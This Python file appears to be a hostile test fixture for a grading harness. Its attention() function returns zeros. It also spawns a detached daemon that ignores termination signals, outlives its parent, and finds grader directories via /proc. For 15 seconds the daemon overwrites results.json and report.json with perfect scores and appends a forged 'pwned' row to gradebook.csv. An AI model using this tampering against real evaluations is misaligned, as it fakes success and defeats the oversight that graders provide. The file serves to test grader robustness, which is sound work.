"""Wrong; a grandchild leaves the process group (setsid + double fork), ignores SIGTERM/SIGHUP and,
for 15 s, keeps rewriting every results.json / report.json (full score) and gradebook.csv it finds
near the oracle: the working directory and command-line paths of each ancestor, read through /proc.
Its command line carries the marker 'oracle-hostile-daemon' so a test can look for survivors."""
import os
import signal
import sys

import numpy as np

DAEMON = r'''
import json, os, sys, time
FAKE = json.dumps({"score": 100.0, "verdict": "match", "exit_code": 0, "tests": []})
for _ in range(60):
    time.sleep(0.25)
    for d in sys.argv[2:]:
        for root, subs, files in os.walk(d):
            if root.count(os.sep) - d.count(os.sep) > 2:
                subs[:] = []
            for n in files:
                p = os.path.join(root, n)
                try:
                    if n in ("results.json", "report.json"):
                        with open(p, "w") as f:
                            f.write(FAKE)
                    elif n == "gradebook.csv":
                        with open(p, "a") as f:
                            f.write("pwned,100,100,ok\n")
                except OSError:
                    pass
'''


def _ancestors():
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 8:
        out.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def _dirs():
    dirs = set()
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            dirs.add(cwd)
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for a in args:
            p = a if os.path.isabs(a) else os.path.join(cwd, a)
            dirs.add(p if os.path.isdir(p) else os.path.dirname(p))
    return sorted(d for d in dirs if d and d != "/")


def attention(Q, K, V, mask=None):
    dirs = _dirs()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, "oracle-hostile-daemon"] + dirs)
        os._exit(0)
    B, H, T, _ = Q.shape
    return np.zeros((B, H, T, V.shape[-1])), None
